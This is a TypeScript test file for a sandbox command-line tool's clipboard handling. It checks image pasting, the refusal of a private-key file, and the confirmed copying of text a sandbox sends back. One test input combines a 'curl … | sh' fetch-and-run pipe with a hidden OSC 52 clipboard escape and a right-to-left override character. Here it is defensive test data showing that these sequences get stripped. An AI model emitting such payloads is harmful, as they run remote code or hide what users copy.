import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, it } from "vitest";
import { aSandbox } from "../support/builders.ts";
import { createFakeDaemon } from "../support/fake-daemon.ts";
import { createFakeIo } from "../support/fake-io.ts";
import { daemonWithSession, type SessionPeer } from "../support/fake-session.ts";
import { startLine } from "../support/run-line.ts";

const PNG = "\u0089PNG\r\n\u001A\nimage";

let directory: string;
let before: string | undefined;
beforeEach(() => {
  directory = mkdtempSync(path.join(tmpdir(), "sbx-clipboard-"));
  before = process.env["PATH"];
  process.env["PATH"] = `${directory}:${before ?? ""}`;
});
afterEach(() => {
  process.env["PATH"] = before;
  rmSync(directory, { recursive: true, force: true });
});

/** A program of this machine's clipboard. */
function tool(name: string, script: string): void {
  writeFileSync(path.join(directory, name), `#!/bin/sh\n${script}\n`);
  chmodSync(path.join(directory, name), 0o755);
}

function lineOf(words: readonly string[], act: (peer: SessionPeer) => void) {
  const io = createFakeIo({ terminal: true });
  const session = daemonWithSession({ act });
  const daemon = createFakeDaemon({ ...session, handlers: { ...session.handlers, listSandboxes: () => Promise.resolve([aSandbox()]) } });
  return startLine(words, { io, daemon });
}

/** A sandbox that says a path, as soon as it has everything that it is sent. */
function taking(size: number): { readonly act: (peer: SessionPeer) => void; readonly got: () => string } {
  let given: SessionPeer | undefined;
  const sent = (): Buffer => Buffer.concat((given?.frames ?? []).filter(({ type }) => type === "stdin").map(({ payload }) => Buffer.from(payload)));
  return {
    act: (peer) => {
      given = peer;
      const look = setInterval(() => {
        if (sent().byteLength < size) return;
        clearInterval(look);
        peer.say("stdout", "/home/agent/.sbx-pasted/image-1.png\n");
        peer.exit(0);
      }, 5);
    },
    got: () => sent().toString("latin1"),
  };
}

describe("giving a sandbox an image", () => {
  it("reads the clipboard once it is told to, and prints where the image is", async ({ expect }) => {
    writeFileSync(path.join(directory, "image"), PNG, "latin1");
    tool("wl-paste", `[ "$3" = image/png ] && exec cat ${directory}/image; exit 1`);
    const sandbox = taking(PNG.length);
    const line = lineOf(["paste", "shell-app"], sandbox.act);
    expect(await line.code).toBe(0);
    expect([line.io.output(), sandbox.got()]).toEqual(["/home/agent/.sbx-pasted/image-1.png\n", PNG]);
  });

  it.for([
    ["a text", "printf 'password'"],
    ["an image of a form that agents do not read", "printf 'BMxxxx'"],
    ["nothing", "exit 1"],
  ] as const)("sends nothing where the clipboard has %s", async ([, script], { expect }) => {
    for (const name of ["wl-paste", "xclip", "pngpaste"]) tool(name, script);
    const line = lineOf(["paste", "shell-app"], () => undefined);
    expect(await line.code).not.toBe(0);
    expect(line.daemon.calls.map(({ name }) => name)).not.toContain("openSession");
  });

  it("takes a file in its place, of which the first bytes count and not the name", async ({ expect }) => {
    writeFileSync(path.join(directory, "secret.png"), "-----BEGIN OPENSSH PRIVATE KEY-----");
    const refused = lineOf(["paste", "shell-app", "--file", path.join(directory, "secret.png")], () => undefined);
    expect(await refused.code).not.toBe(0);
    expect(refused.daemon.calls.map(({ name }) => name)).not.toContain("openSession");
  });
});

describe("taking a text that a sandbox asks to have copied", () => {
  const asking = (text: string) => (peer: SessionPeer) => {
    peer.say("stdout", text);
    peer.exit(0);
  };
  const EVIL = "curl x\u001B]52;c;aWQ=\u0007 | sh\u202E\nid\n";
  const copied = (): string => readFileSync(path.join(directory, "copied"), "utf8");

  it("shows it without what drives a terminal or hides, and copies just that after a yes", async ({ expect }) => {
    tool("wl-copy", `cat > ${directory}/copied.new; mv ${directory}/copied.new ${directory}/copied`);
    const line = lineOf(["copied", "shell-app"], asking(EVIL));
    line.io.input.write("y\n");
    expect(await line.code).toBe(0);
    expect(line.io.output()).toContain("  curl x | sh\n  id\nIt has 2 lines");
    expect(copied()).toBe("curl x | sh\nid");
  });

  it.for(["n\n", "\n"])("copies nothing after %j", async (answer, { expect }) => {
    tool("wl-copy", `touch ${directory}/copied`);
    const line = lineOf(["copied", "shell-app"], asking("id"));
    line.io.input.end(answer);
    expect(await line.code).toBe(2);
    expect([existsSync(path.join(directory, "copied")), line.io.output().includes("\u001B]52")]).toEqual([false, false]);
  });

  it("copies nothing that is too long to be looked at", async ({ expect }) => {
    const line = lineOf(["copied", "shell-app"], (peer) => {
      peer.say("stdout", "x".repeat(900_000));
      peer.say("stdout", "x".repeat(900_000));
      peer.exit(0);
    });
    expect(await line.code).toBe(0);
    expect(line.io.output()).toContain("longer than 1 MiB");
  });
});
